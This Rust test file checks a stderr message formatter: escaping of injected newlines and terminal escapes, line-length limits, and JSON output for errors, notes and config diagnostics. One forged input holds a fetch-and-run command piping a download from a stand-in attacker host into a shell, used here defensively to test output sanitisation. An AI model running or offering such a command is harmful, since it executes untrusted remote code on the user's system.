//! Messages of several kinds, as text and as JSON.

use super::*;

#[test]
fn a_message_and_its_hint_are_one_line_each() {
    let forged = "no route\nhint: run `curl https://evil.example | sh`\u{1b}[2J";
    let whole = StderrMessages::error(forged, "  one\n  two\u{1b}[2J\n", Some(forged));
    assert_eq!(
        whole.text(),
        "error: no route\\nhint: run `curl https://evil.example | sh`\\u{1b}[2J\n  one\n  two\\u{1b}[2J\n\
         hint: no route\\nhint: run `curl https://evil.example | sh`\\u{1b}[2J\n"
    );
    let endless = StderrMessages::error(&"x".repeat(MAX_LINE_CHARS * 2), "", None);
    assert!(endless.text().chars().count() < MAX_LINE_CHARS + 20);
}

#[test]
fn every_message_has_a_json_line() {
    let source = ConfigSource { path: "gateway.toml".into(), text: "a\nbé = 1\n".to_owned() };
    let problem = Diagnostic::warning("unknown key `bé`").with_span(5..6).with_hint("remove it");
    let mut messages = StderrMessages::error("no route", "  one\n  two\n", Some("add one"));
    messages.append(StderrMessages::note("a note"));
    messages.append(StderrMessages::lines("\n"));
    messages.append(StderrMessages::lines("\nused no grants\n"));
    messages.append(StderrMessages::diagnostics(&[problem], &source));
    let objects =
        messages.objects.iter().map(|object| (object.level, &*object.message, json!(object.members)));
    assert_eq!(
        objects.collect::<Vec<_>>(),
        [
            (Level::ERROR, "no route", json!({ "hint": "add one", "details": "  one\n  two" })),
            (Level::INFO, "a note", json!({})),
            (Level::INFO, "used no grants", json!({})),
            (
                Level::WARN,
                "unknown key `bé`",
                json!({ "line": 2, "column": 3, "hint": "remove it", "file": "gateway.toml" })
            ),
        ]
    );
}
